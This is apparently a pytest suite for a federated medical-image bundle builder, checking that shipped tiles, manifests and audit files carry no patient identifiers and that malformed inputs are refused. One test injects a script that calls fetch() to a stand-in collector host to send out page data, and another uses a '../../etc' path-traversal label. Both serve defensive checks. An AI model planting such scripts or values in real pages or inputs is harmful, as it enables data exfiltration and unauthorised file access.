"""Building a run's bundle: canonical PNGs under random names, the run's own audit, nothing identifying."""

from __future__ import annotations

import json
import re
import stat

import numpy as np
import pandas as pd
import pytest

from pixcell_fed.bundle import build_bundle
from pixcell_fed.bundle.build import scan_bytes_for
from pixcell_fed.bundle.layout import parse_time, read_bundle_json
from pixcell_fed.bundle.manifest import manifest_bytes, read_manifest, validate_manifest
from pixcell_fed.bundle.png import clean_png_bytes, list_chunks
from pixcell_fed.bundle.shareable import validate_shareable_audit
from pixcell_fed.errors import BundleError, ExitCode, PrivacyGateRefused
from pixcell_fed.keys import generate_private_key
from pixcell_fed.testing.bundles import (ENCODER, GENERATOR, TILE_SIZE, audit_for, inert_summary_html, real_tile_arrays,
                                         write_run, write_tiles)

MARKERS = {
    "Patient": "PAT-4471-MARKER Doe^Jane",
    "Barcode": "BARCODE-ZX81-MARKER",
    "SlideName": "CASE-2024-0815-MARKER.svs",
    "openslide.comment": "MRN 99887766 MARKER",
}


@pytest.fixture(scope="module")
def arrays():
    return real_tile_arrays(6)


def _build(run, **overrides):
    kwargs = dict(site_name="site-a", tiles=run.tiles, tile_size=TILE_SIZE, labels=None, generator=GENERATOR,
                  encoder=ENCODER, site_key=generate_private_key())
    kwargs.update(overrides)
    return build_bundle(run.run_dir, **kwargs)


def test_bundle_layout_and_state(tmp_path, arrays):
    run = write_run(tmp_path / "work", "run-001", arrays)
    info = _build(run, labels=["tumor", "normal", "tumor", "tumor", "normal", "tumor"])
    root = info.path
    assert root == run.run_dir / "bundle"
    files = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())
    assert files[:4] == ["audit.json", "bundle.json", "manifest.parquet", "signatures/site.sig"]
    assert len([f for f in files if f.startswith("tiles/")]) == 6
    assert read_bundle_json(root)["state"] == "awaiting_approval" == info.state
    meta = read_bundle_json(root)
    assert meta["counts"] == {"tiles": 6, "labels": {"normal": 2, "tumor": 4}}
    assert meta["format_version"] == 3 and meta["tile_size"] == TILE_SIZE
    assert meta["conditioning"]["mode"] == "exact"  # an audit that states no conditioning claims no guarantee
    # the agreed interface: "created" is the build's UTC time to the second, covered by the site signature
    created = parse_time(meta["created"])
    assert created is not None and created.utcoffset().total_seconds() == 0
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+00:00", meta["created"])
    frame = read_manifest(root / "manifest.parquet")
    assert list(frame.columns) == ["file_name", "sha256", "size", "label", "generator", "encoder", "run_id"]
    assert all(re.fullmatch(r"[0-9a-f]{32}\.png", n) for n in frame["file_name"])
    assert list(frame["file_name"]) == sorted(frame["file_name"])  # row order reveals nothing about the sources
    assert not list(run.run_dir.glob(".bundle.tmp-*"))  # built in a temporary folder, renamed into place
    # the shipped bytes are the audited bytes, and the pixels survive exactly
    assert {(root / "tiles" / n).read_bytes() for n in frame["file_name"]} == {t.read_bytes() for t in run.tiles}
    from PIL import Image

    shipped = {np.asarray(Image.open(root / "tiles" / n)).tobytes() for n in frame["file_name"]}
    assert shipped == {a.tobytes() for a in arrays}
    # the bundle carries the run's own audit
    assert json.loads((root / "audit.json").read_text()) == run.audit


def test_unlabelled_bundle_has_no_label_column(tmp_path, arrays):
    info = _build(write_run(tmp_path / "work", "run-001", arrays))
    assert "label" not in read_manifest(info.path / "manifest.parquet").columns


@pytest.mark.parametrize("verdict, run_json", [
    ("FAIL", None),                                            # the audit refused the run
    ("PASS", {"state": "refused by audit", "verdict": "FAIL"}),  # the run's record says FAIL, whatever the summary says
])
def test_a_run_refused_by_its_audit_builds_nothing(tmp_path, arrays, verdict, run_json):
    run = write_run(tmp_path / "work", "run-001", arrays, verdict=verdict, run_json=run_json)
    with pytest.raises(PrivacyGateRefused, match="FAIL") as info:
        _build(run)
    assert info.value.exit_code == ExitCode.PRIVACY_REFUSED
    assert not (run.run_dir / "bundle").exists() and not list(run.run_dir.glob(".bundle*"))


def test_the_audit_comes_only_from_the_runs_folder(tmp_path, arrays):
    run = write_run(tmp_path / "work", "run-001", arrays)
    (run.run_dir / "audit" / "audit_summary.json").unlink()
    with pytest.raises(BundleError, match="has no audit summary"):
        _build(run)
    with pytest.raises(TypeError):  # there is no way to hand the builder an audit of one's own
        _build(run, audit_summary=audit_for(arrays))


def test_tiles_must_be_exactly_the_kept_set(tmp_path, arrays):
    run = write_run(tmp_path / "work", "run-001", arrays, audit=audit_for(arrays[:-1]))
    with pytest.raises(BundleError, match="1 tile\\(s\\) the audit did not keep"):
        _build(run)
    run = write_run(tmp_path / "work2", "run-001", arrays)
    with pytest.raises(BundleError, match="1 kept tile\\(s\\) missing"):
        _build(run, tiles=run.tiles[:-1])
    assert not (run.run_dir / "bundle").exists()


def test_existing_bundle_not_overwritten(tmp_path, arrays):
    run = write_run(tmp_path / "work", "run-001", arrays)
    _build(run)
    with pytest.raises(BundleError, match="already exists"):
        _build(run)


def test_tiles_with_metadata_are_refused_naming_the_file(tmp_path, arrays):
    """A careless writer's PNG (text chunks with identifiers) is refused, not silently shipped or rewritten."""
    dirty = write_tiles(tmp_path / "dirty", arrays[:2], text_chunks=MARKERS)
    assert {"tEXt", "zTXt", "iTXt"} <= set(list_chunks(dirty[0].read_bytes()))
    run = write_run(tmp_path / "work", "run-001", arrays[:2])
    with pytest.raises(BundleError, match=f"{dirty[0].name}: PNG carries chunks .*tEXt"):
        _build(run, tiles=dirty)
    assert not (run.run_dir / "bundle").exists()
    clean = clean_png_bytes(np.asarray(arrays[0]))
    assert list_chunks(clean) == ["IHDR", "IDAT", "IEND"]
    with pytest.raises(BundleError, match="after the PNG's IEND"):
        list_chunks(clean + b"PAT-4471")


def test_nothing_identifying_in_any_byte(tmp_path, arrays):
    """Markers in source file names and folders and in the forbidden strings: none reaches the bundle."""
    work = tmp_path / "CASE-2024-0815-MARKER_slides" / "work"
    run = write_run(work, "run-001", arrays)
    src = run.run_dir / "synthetic"
    paths = []
    for i, tile in enumerate(run.tiles):  # source names carrying a slide name and a tile id
        paths.append(tile.rename(src / f"CASE-2024-0815-MARKER-r00012-c{i:05d}.png"))
    forbidden = ["PAT-4471", "BARCODE-ZX81", "CASE-2024-0815", "MARKER", "r00012-c0000", str(src)]
    info = build_bundle(run.run_dir, site_name="site-a", tiles=paths, tile_size=TILE_SIZE, labels=None,
                        generator=GENERATOR, encoder=ENCODER, site_key=generate_private_key(),
                        forbidden_strings=["PAT-4471", "BARCODE-ZX81"])
    assert scan_bytes_for(info.path, forbidden) == []
    for name in (p.relative_to(info.path).as_posix() for p in info.path.rglob("*")):
        assert not any(f.lower() in name.lower() for f in forbidden)
    for tile in (info.path / "tiles").iterdir():
        assert list_chunks(tile.read_bytes()) == ["IHDR", "IDAT", "IEND"]
    frame = pd.read_parquet(info.path / "manifest.parquet")  # decoded values too (the parquet is compressed)
    assert not any(f.lower() in frame.to_csv().lower() for f in forbidden)
    from pixcell_fed.audit.identifiers import scan_for_identifiers

    assert scan_for_identifiers(sorted(p for p in info.path.rglob("*") if p.is_file()), forbidden) == []


def test_self_check_refuses_forbidden_string(tmp_path, arrays):
    run = write_run(tmp_path / "work", "run-PAT4471", arrays)
    with pytest.raises(BundleError, match="identifying"):
        _build(run, forbidden_strings=["PAT4471"])
    assert not (run.run_dir / "bundle").exists()


@pytest.mark.parametrize("mutate, match", [
    (lambda a: a.update(slide_paths=["x"]), "not allowed"),
    (lambda a: a["sizes"].update(note="/data/slides/CASE-1.svs"), "path"),
    (lambda a: a["tests"]["copy_detection"].update(worst="CASE-1-r00012-c00034"), "tile identifier"),
    (lambda a: a["tests"].update(source_file="t.png"), "may not leave"),
    (lambda a: a["figures"].update(vector=[float(v) for v in np.random.default_rng(0).normal(size=1536)]), "embedding"),
    (lambda a: a["identities"]["generator"].update(weights_dir="weights"), "may not leave"),
    (lambda a: a.update(verdict="MAYBE"), "verdict"),
    (lambda a: a.pop("kept_sha256"), "missing"),
    (lambda a: a["tests"].update(url="https://hospital.example/slides"), "URL"),
])
def test_shareable_audit_allow_list(arrays, mutate, match):
    audit = audit_for(arrays)
    validate_shareable_audit(audit)
    mutate(audit)
    with pytest.raises(BundleError, match=match):
        validate_shareable_audit(audit)


def test_identity_with_a_path_refused(tmp_path, arrays):
    with pytest.raises(BundleError, match="path"):
        _build(write_run(tmp_path / "work", "run-001", arrays),
               generator={**GENERATOR, "weights": "/home/admin/pixcell/model.safetensors"})


def _frame(arrays):
    from pixcell_fed.bundle.manifest import manifest_frame
    from pixcell_fed.bundle.png import random_tile_name

    return manifest_frame([{"file_name": random_tile_name(), "sha256": "a" * 64, "size": 10, "label": None,
                            "generator": json.dumps(GENERATOR, sort_keys=True, separators=(",", ":")),
                            "encoder": json.dumps(ENCODER, sort_keys=True, separators=(",", ":")), "run_id": "run-1"}
                           for _ in arrays])


@pytest.mark.parametrize("mutate, match", [
    (lambda f: f.assign(slide_file="CASE-1.svs"), "columns not allowed"),
    (lambda f: f.assign(x=0), "columns not allowed"),
    (lambda f: f.drop(columns=["sha256"]), "missing columns"),
    (lambda f: f.assign(size=f["size"].astype(str)), "integers"),
    (lambda f: f.assign(size=f["size"].astype(float)), "integers"),
    (lambda f: f.assign(file_name=["slides/CASE-1/tile.png"] + list(f["file_name"][1:])), "random"),
    (lambda f: f.assign(file_name=["CASE-1-r00001-c00002.png"] + list(f["file_name"][1:])), "random"),
    (lambda f: f.assign(label=[None] + ["tumor"] * (len(f) - 1)), "missing values"),
    (lambda f: f.assign(label=["../../etc"] * len(f)), "label"),
    (lambda f: f.assign(run_id=["run-1"] + ["run-2"] * (len(f) - 1)), "more than one run id"),
    (lambda f: f.assign(encoder='{"name":"uni","path":"/w"}'), "may not leave"),
    (lambda f: f.assign(sha256="A" * 64), "hex"),
])
def test_manifest_validation_fails_closed(arrays, mutate, match):
    frame = _frame(arrays)
    validate_manifest(frame)
    with pytest.raises(BundleError, match=match):
        validate_manifest(mutate(frame))


def test_manifest_file_with_extra_column_or_metadata_refused(tmp_path, arrays):
    import pyarrow as pa
    import pyarrow.parquet as pq

    frame = _frame(arrays)
    (tmp_path / "ok.parquet").write_bytes(manifest_bytes(frame))
    assert len(read_manifest(tmp_path / "ok.parquet")) == len(arrays)
    frame.assign(slide="CASE-1").to_parquet(tmp_path / "extra.parquet", index=False)
    with pytest.raises(BundleError):
        read_manifest(tmp_path / "extra.parquet")
    table = pa.Table.from_pandas(frame, preserve_index=False).replace_schema_metadata({"slide": "CASE-1.svs"})
    pq.write_table(table, tmp_path / "meta.parquet")
    with pytest.raises(BundleError, match="metadata"):
        read_manifest(tmp_path / "meta.parquet")


def test_summary_page_comes_from_the_runs_audit_and_must_be_inert(tmp_path, arrays):
    page = inert_summary_html()
    info = _build(write_run(tmp_path / "work", "run-001", arrays, summary_html=page))
    assert (info.path / "audit_summary.html").read_text() == page
    scripted = page.replace("<h1>", "<script>fetch('https://collector.example/?' + document.title)</script><h1>")
    run = write_run(tmp_path / "work2", "run-001", arrays, summary_html=scripted)
    with pytest.raises(BundleError, match="audit_summary.html: contains a <script> element"):
        _build(run)
    assert not (run.run_dir / "bundle").exists()


def test_site_key_file_mode(tmp_path):
    from pixcell_fed.keys import write_key_pair

    private, _, _ = write_key_pair(tmp_path / "site_signing.key")
    assert stat.S_IMODE(private.stat().st_mode) == 0o600


def test_the_audits_own_summary_is_bundled_and_verified(tmp_path):
    """Compatibility with the audit stage: run_audit's own folder is a run's audit the builder accepts."""
    from pixcell_fed.audit.run import run_audit
    from pixcell_fed.bundle import verify_bundle
    from pixcell_fed.testing.bundles import RunFixture, build_run_bundle, consortium

    arrays = real_tile_arrays(64, size=32)
    run_dir = tmp_path / "work" / "runs" / "run-001"
    synthetic = write_tiles(run_dir / "synthetic", arrays[:10], stem="syn")
    result = run_audit(synthetic, write_tiles(tmp_path / "t", arrays[10:37], stem="ref"),
                       write_tiles(tmp_path / "h", arrays[37:], stem="hold"), source_of=None, audit_cfg=None,
                       out_dir=run_dir / "audit", identities={"generator": GENERATOR, "encoder": ENCODER})
    summary = json.loads((run_dir / "audit" / "audit_summary.json").read_text())
    keys = consortium(("site-a",))
    run = RunFixture("run-001", run_dir, [p for p in result.kept], summary)
    verified = verify_bundle(build_run_bundle(run, keys, "site-a"), keys.trust)
    assert verified.verdict == result.verdict and len(verified.tiles) == len(result.kept)
    assert sorted(verified.tiles["sha256"]) == sorted(summary["kept_sha256"])
